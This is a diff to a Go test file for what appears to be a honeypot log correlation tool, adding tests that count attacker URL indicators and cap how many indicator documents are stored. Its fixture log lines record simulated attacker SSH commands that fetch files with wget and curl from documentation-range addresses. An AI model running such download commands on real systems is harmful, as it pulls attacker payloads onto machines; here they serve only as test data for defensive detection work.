@@ -10,6 +10,7 @@ import (
 	"slices"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"testing/synctest"
 	"time"
@@ -17,6 +18,7 @@ import (
 	"dossier/correlate"
 	"dossier/correlate/commit"
 	"dossier/correlate/dialect"
+	"dossier/correlate/state"
 	"dossier/plugin/chunk/chunktest"
 	"dossier/testbed/memory"
 )
@@ -80,7 +82,7 @@ func visit(n int) []byte {
 	return chunktest.Lines(at, "log",
 		line("ssh", "connect", ""),
 		line("ssh", "auth_success", fmt.Sprintf(`username="root" password="p%d"`, n)),
-		line("ssh", "command", fmt.Sprintf(`command="id %d"`, n)),
+		line("ssh", "command", fmt.Sprintf(`command="id %d; wget http://198.51.100.%d/x; curl -O 198.51.100.7/all"`, n, n)),
 		line("smtp_relay", "rcpt_to", `value="<a@acme.com>"`),
 		line("smtp_relay", "rcpt_denied", `value="<b@acme.com>"`),
 	)
@@ -138,6 +140,7 @@ func TestRedeliveryCountsOnce(t *testing.T) {
 	}{
 		"attacker": {"d-attackers", "203.0.113.1", []string{"event_count"}, 5},
 		"target":   {"d-smtp-targets", "203.0.113.1|acme.com", []string{"count"}, 2},
+		"URL":      {"d-indicators", state.IndicatorID("url", "http://198.51.100.7/all"), []string{"count"}, 1},
 		"hour":     {"d-activity-2026.01", "203.0.113.1|2026-01-08T00", []string{"activity", "events"}, 5},
 	} {
 		var v any
@@ -262,6 +265,78 @@ func TestStatsAreCountedOnce(t *testing.T) {
 		s.Refused[dialect.Empty] != 2 || s.Refused[dialect.UnknownShape] != 2 || s.ChunksOK != 2 || s.ChunksRetry != 1 || s.ChunksError != 0 || s.Bytes != int64(len(broken)+len(data)) {
 		t.Errorf("stats %+v", s)
 	}
+}
+
+// Whoever names more things than may have documents opens them up to the bound,
+// also where his document is written and theirs are not, and the chunk comes
+// again; what others opened counts on.
+func TestCrowdsOfThings(t *testing.T) {
+	urls := func(address string, from, to int) []byte {
+		var lines []string
+		for i := from; i < to; i++ {
+			lines = append(lines, fmt.Sprintf(`<134>1 2026-01-07T10:00:00+00:00 decky-06 ssh - command [relay@55555 src="%s" command="wget http://198.51.100.7/%d"]`, address, i))
+		}
+		return chunktest.Lines(recordTime, "log", lines...)
+	}
+	b := newBench(t, nil)
+	b.flush(t, correlate.OK, urls("203.0.113.9", 0, 100))
+	if n := len(b.store.Documents("d-indicators")); n != 101 {
+		t.Fatalf("%d documents of 100 URLs and a host", n)
+	}
+	crossing := urls("203.0.113.9", 0, 6000)
+	b.flush(t, correlate.OK, crossing)
+	n := len(b.store.Documents("d-indicators"))
+	if n < 1400 || n > 2800 {
+		t.Errorf("%d documents; the bound is about 2000", n)
+	}
+	newBenchOn(t, b.store, nil).flush(t, correlate.OK, crossing) // opens the same
+	b.flush(t, correlate.OK, urls("203.0.113.9", 5900, 7000))
+	if again := len(b.store.Documents("d-indicators")); again != n {
+		t.Errorf("%d documents, and %d behind another chunk", n, again)
+	}
+	b.flush(t, correlate.OK, urls("203.0.113.10", 7, 8))
+	var doc struct{ Count int }
+	id := state.IndicatorID("url", "http://198.51.100.7/7")
+	if err := json.Unmarshal(b.store.Documents("d-indicators")[id], &doc); err != nil || doc.Count != 3 {
+		t.Errorf("a URL that was open counts %d, %v; want 3", doc.Count, err)
+	}
+
+	// The attacker's document is there, the others aren't; the same process gets
+	// the chunk again.
+	synctest.Test(t, func(t *testing.T) {
+		store := &thingless{Store: memory.New()}
+		b := newBenchOn(t, store, nil)
+		b.flush(t, correlate.Retry, crossing)
+		store.all.Store(true)
+		b.flush(t, correlate.OK, crossing)
+		if n := len(store.Documents("d-indicators")); n < 1400 || n > 2800 {
+			t.Errorf("%d documents when the chunk comes again; the bound is about 2000", n)
+		}
+	})
+}
+
+// thingless is a store that takes no indicators until all is set.
+type thingless struct {
+	*memory.Store
+	all atomic.Bool
+}
+
+func (s *thingless) Write(ctx context.Context, ops []commit.Op) ([]commit.Written, error) {
+	var mine []commit.Op
+	out := make([]commit.Written, len(ops))
+	var at []int
+	for i, op := range ops {
+		if s.all.Load() || !strings.HasSuffix(op.Key.Index, "-indicators") {
+			mine, at = append(mine, op), append(at, i)
+		} else {
+			out[i] = commit.Written{Status: commit.Unknown, Reason: "not now"}
+		}
+	}
+	done, err := s.Store.Write(ctx, mine)
+	for i := range done {
+		out[at[i]] = done[i]
+	}
+	return out, err
 }
 
 // An address that aims at more mail domains than it may have documents for
